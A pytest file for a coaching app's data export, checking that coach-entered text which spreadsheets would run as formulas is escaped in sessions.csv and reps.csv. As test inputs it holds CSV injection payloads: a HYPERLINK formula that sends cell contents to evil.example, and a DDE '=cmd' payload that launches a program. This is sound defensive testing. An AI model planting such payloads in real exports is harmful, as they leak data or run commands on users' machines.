"""The athlete export over a real server: text a coach typed that a spreadsheet would run as a
formula (CSV injection) is written as text in sessions.csv and reps.csv."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest

from psoas_coach.web.export import spreadsheet_safe
from tests.web.helpers import Api

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("yellow band", "yellow band"),
        ("", ""),
        ("a=b", "a=b"),
        (-3.5, -3.5),  # numbers stay numbers
        (None, None),
    ],
)
def test_spreadsheet_safe(value: Any, written: Any) -> None:
    assert spreadsheet_safe(value) == written


def test_export_writes_formulas_as_text(api: Api, march_csv: Path) -> None:
    athlete = api.athlete(api.team()["id"], name="=cmd|' /C calc'!A0")
    session = api.session(
        athlete["id"], band="+band", pain_notes=FORMULA, coach_comments="@comment"
    )
    upload = api.upload(session["id"], "-2+3.csv.gz", march_csv.read_bytes())
    assert upload.status_code == 202, upload.text
    api.wait(session["id"])
    result = api.ok("GET", f"/api/sessions/{session['id']}")["recordings"][0]["result"]
    api.ok(
        "PUT",
        f"/api/results/{result['id']}/reps/1/override",
        json={"verdict": "confirmed", "comment": "=1+1"},
    )
    export = api.request("GET", f"/api/athletes/{athlete['id']}/export")
    archive = zipfile.ZipFile(io.BytesIO(export.content))
    sessions = list(csv.DictReader(io.StringIO(archive.read("sessions.csv").decode())))
    assert sessions[0]["band"] == "'+band"
    assert sessions[0]["pain_notes"] == "'" + FORMULA
    assert sessions[0]["coach_comments"] == "'@comment"
    reps = list(csv.DictReader(io.StringIO(archive.read("reps.csv").decode())))
    assert {rep["recording"] for rep in reps} == {"'-2+3.csv.gz"}
    assert reps[0]["review_comment"] == "'=1+1"
    texts = [c for row in (*sessions, *reps) for c in row.values() if not _is_number(c)]
    assert not [c for c in texts if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
